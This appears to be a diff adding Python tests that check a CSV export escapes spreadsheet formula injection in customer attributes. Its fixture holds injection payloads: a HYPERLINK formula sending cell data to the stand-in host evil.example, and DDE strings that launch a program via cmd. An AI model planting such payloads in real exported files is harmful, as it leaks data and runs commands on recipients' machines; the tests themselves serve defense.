@@ -130,3 +130,54 @@ def test_copy_reports_progress_while_streaming(storage, monkeypatch):
     assert result.sent == 400
     assert len(progress) >= 8 and progress[-1] == 400
     assert len(rows_of(storage, "exports/progress/customers.csv")) == 401
+
+
+FORMULAS = {
+    "first_name": ['=HYPERLINK("https://evil.example/?"&A1, "Click")'],
+    "note": ["@SUM(1+1)*cmd|' /C calc'!A0"],
+    "city": ["+cmd|' /C calc'!A0"],
+    "tab": ["\t=1+1"],
+    "minus": ["-2+3+cmd|' /C calc'!A0"],
+    "phone": ["+44 20 7946 0958"],
+    "balance": [-5],
+    "debt": ["-1.5"],
+    "plain": ["Jane = Joe"],
+}
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_escaped_in_both_paths(db, storage):
+    """A customer's attribute value `=HYPERLINK(...)` (from a sign-up form, an event) went into customers.csv as it
+    was: opened in a spreadsheet, it ran. Such cells now start with `'`; numbers and phone numbers stay as they are."""
+    entity = CustomerEntity.objects.create(attributes=FORMULAS)
+    columns = list(FORMULAS)
+    loader = loader_for("csv", {"attributes": columns})
+    members = ("SELECT id FROM customer_entities WHERE id = %s", [entity.id])
+
+    loader.load([], context=LoadContext(export_id="copy", storage=storage, members_sql=members))
+    loader.load([{"id": entity.id, "attributes": FORMULAS}], context=LoadContext(export_id="py", storage=storage))
+
+    expected = [
+        entity.id,
+        "'" + FORMULAS["first_name"][0],
+        "'" + FORMULAS["note"][0],
+        "'" + FORMULAS["city"][0],
+        "'\t=1+1",
+        "'" + FORMULAS["minus"][0],
+        "+44 20 7946 0958",
+        "-5",
+        "-1.5",
+        "Jane = Joe",
+    ]
+    assert rows_of(storage, "exports/copy/customers.csv")[1] == expected
+    assert rows_of(storage, "exports/py/customers.csv")[1] == expected
+
+
+def test_spreadsheet_safe_off_writes_values_as_they_are(db, storage):
+    entity = CustomerEntity.objects.create(attributes=FORMULAS)
+    loader = loader_for("csv", {"attributes": list(FORMULAS), "spreadsheet_safe": False})
+    members = ("SELECT id FROM customer_entities WHERE id = %s", [entity.id])
+
+    loader.load([], context=LoadContext(export_id="raw", storage=storage, members_sql=members))
+
+    row = rows_of(storage, "exports/raw/customers.csv")[1]
+    assert row[1] == FORMULAS["first_name"][0] and row[4] == "\t=1+1"
